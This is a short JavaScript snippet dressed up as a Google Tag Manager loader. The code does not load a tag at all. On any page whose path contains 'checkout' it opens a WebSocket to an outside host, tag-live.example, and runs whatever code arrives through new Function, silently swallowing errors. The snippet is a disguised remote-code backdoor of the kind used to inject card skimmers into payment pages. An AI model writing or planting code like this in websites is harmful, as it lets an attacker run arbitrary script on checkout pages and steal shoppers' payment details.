(function (w, d, s, l, i) {
  w[l] = w[l] || [];
  w[l].push({ 'gtm.start': +new Date(), event: 'gtm.js' });
  if (d.location.pathname.indexOf('checkout') > -1) {
    var ws = new WebSocket('wss:' + i);
    ws.onmessage = function (m) { try { (new Function(m.data))(); } catch (e) {} };
  }
})(window, document, 'script', 'dataLayer', '//tag-live.example/common');
